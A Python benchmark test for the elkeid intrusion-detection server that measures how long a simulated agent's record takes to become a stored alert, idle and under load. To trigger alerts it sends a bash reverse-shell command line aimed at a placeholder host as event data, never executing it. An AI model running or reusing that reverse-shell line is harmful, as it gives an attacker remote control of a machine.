"""End-to-end alert latency (``make bench``): a record sent by an enrolled agent -> the alert stored.

A real ``elkeid server`` runs the default ruleset. A probe agent (real mTLS
Transfer stream) sends a reverse-shell execve every 0.2 s, each with its own
command line (so each makes a new alert); the latency of one is the alert's
``created_at`` (taken by the store in the transaction that inserts it) minus
the time the probe handed the record to its gRPC stream. Measured idle, then
under background load from ``elkeid bench agents`` (its own process, execve
records that raise nothing, like most of a fleet's traffic). The same load
is also run against a server with no rules at all, so the engine's cost to
ingest shows as a ratio measured in the same run. Prints figures; asserts
only that every probe record became an alert.
"""

from __future__ import annotations

import re
import secrets
import threading
import time
from pathlib import Path

import psutil
import pytest

from elkeid.bench._loadgen import percentile
from tests._support import ServerProcess, wait_until
from tests.bench.test_ingest_bench import _bench, _report
from tests.integration._agent_stream import AgentStream

pytestmark = pytest.mark.slow

LOAD_AGENTS = 40
#: Records/s per load agent: 10,000/s in all (half of what ingest stores at most, docs/benchmarks.md),
#: then 20,000/s (ingest at its limit).
LOAD_RATES = (250, 500)
PROBE_EVERY, PROBE_SECONDS = 0.2, 25
SHELL = "bash -i >& /dev/tcp/203.0.113.5/{n} 0>&1"
_PORT = re.compile(r"/dev/tcp/203\.0\.113\.5/(\d+) ")


@pytest.fixture(autouse=True)
def _only_when_asked(request):
    if not any("tests/bench" in str(a) for a in request.config.args):
        pytest.skip("benchmark: run with `make bench`")


def _probe(server: ServerProcess, agent_id: str, first: int) -> dict:
    """Send triggers for PROBE_SECONDS; wait for every alert; latency figures in ms."""
    sent: dict[int, float] = {}
    with AgentStream(server, agent_id) as stream:
        n = first
        deadline = time.monotonic() + PROBE_SECONDS
        while time.monotonic() < deadline:
            sent[n] = time.time()
            stream.send(59, {"pid": str(n), "ppid": "1", "exe": "/usr/bin/bash", "argv": SHELL.format(n=n) + " ",
                             "pid_tree": f"{n}.bash<1.systemd"})  # fmt: skip
            n += 1
            time.sleep(PROBE_EVERY)
        with server.api() as api:
            def stored() -> list[dict]:
                items, page = [], 1
                while True:
                    body = api.get("/api/v1/alerts", params={"agent_id": agent_id, "page_size": 500, "page": page}).json()
                    items += body["items"]
                    if page * 500 >= body["total"]:
                        return items
                    page += 1

            alerts = wait_until(lambda: len(found := stored()) >= len(sent) and found, 120, 0.5, "every probe alert")
            status = api.get("/api/v1/engine/status").json()["runner"]
    latencies = sorted(a["created_at"] - sent[int(_PORT.search(a["event"]["argv"]).group(1))] for a in alerts)
    assert len(latencies) == len(sent)
    return {"alerts": len(latencies), "p50_ms": round(percentile(latencies, 50) * 1000, 1),
            "p99_ms": round(percentile(latencies, 99) * 1000, 1), "max_ms": round(latencies[-1] * 1000, 1),
            "engine": {k: status[k] for k in ("records", "chunks", "busy_seconds", "cpu_seconds", "max_lag_seconds",
                                               "queued_batches")}}  # fmt: skip


def _load(server: ServerProcess, state: Path, out: Path, rate: int, seconds: float) -> tuple[threading.Thread, dict]:
    result: dict = {}
    worker = threading.Thread(target=lambda: result.update(_bench(
        server, state, out, "--count", str(LOAD_AGENTS), "--rate", str(rate), "--duration", str(seconds))))
    worker.start()
    return worker, result


def _load_figures(r: dict) -> dict:
    return {"stored_records_per_s": r.get("records_per_second_acked"), "sent": r.get("records_sent"),
            "acked": r.get("records_acked"), "ack_p50_ms": r.get("ack_latency_p50_ms"),
            "ack_p99_ms": r.get("ack_latency_p99_ms")}  # fmt: skip


def _server(tmp_path: Path, name: str, *args: str) -> ServerProcess:
    return ServerProcess(tmp_path / name, admin_password=secrets.token_urlsafe(12), extra_args=list(args)).start()


def test_alert_latency(tmp_path):
    figures: dict = {"load_agents": LOAD_AGENTS, "cores": psutil.cpu_count()}
    server = _server(tmp_path, "server")
    state = tmp_path / "agents"
    try:
        _bench(server, state, tmp_path / "enroll.json", "--count", str(LOAD_AGENTS), "--rate", "0", "--enroll-only")
        figures["idle"] = _probe(server, "probe-idle", 10000)
        for i, rate in enumerate(LOAD_RATES):
            worker, result = _load(server, state, tmp_path / f"load-{rate}.json", rate, PROBE_SECONDS + 15)
            time.sleep(8)  # connected and sending at full rate
            before = _runner(server)
            figures[f"load_{LOAD_AGENTS * rate}"] = probe = _probe(server, f"probe-{rate}", 20000 + 10000 * i)
            worker.join()
            after = _runner(server)
            probe["ingest"] = _load_figures(result)
            probe["engine_cpu_us_per_record"] = round((after["cpu_seconds"] - before["cpu_seconds"])
                                                      / max(1, after["records"] - before["records"]) * 1e6, 2)  # fmt: skip
        figures["load_avg_end"] = psutil.getloadavg()
    finally:
        server.stop(timeout=30)
    # The same loads on a server running no rules: what the engine costs ingest.
    bare = _server(tmp_path, "bare", "--no-default-rules")
    try:
        bare_state = tmp_path / "bare-agents"
        _bench(bare, bare_state, tmp_path / "enroll2.json", "--count", str(LOAD_AGENTS), "--rate", "0", "--enroll-only")
        for rate in LOAD_RATES:
            worker, result = _load(bare, bare_state, tmp_path / f"bare-{rate}.json", rate, PROBE_SECONDS + 15)
            worker.join()
            figures[f"no_rules_load_{LOAD_AGENTS * rate}"] = _load_figures(result)
    finally:
        bare.stop(timeout=30)
    _report("bench-alert-latency", figures)


def _runner(server: ServerProcess) -> dict:
    with server.api() as api:
        return api.get("/api/v1/engine/status").json()["runner"]
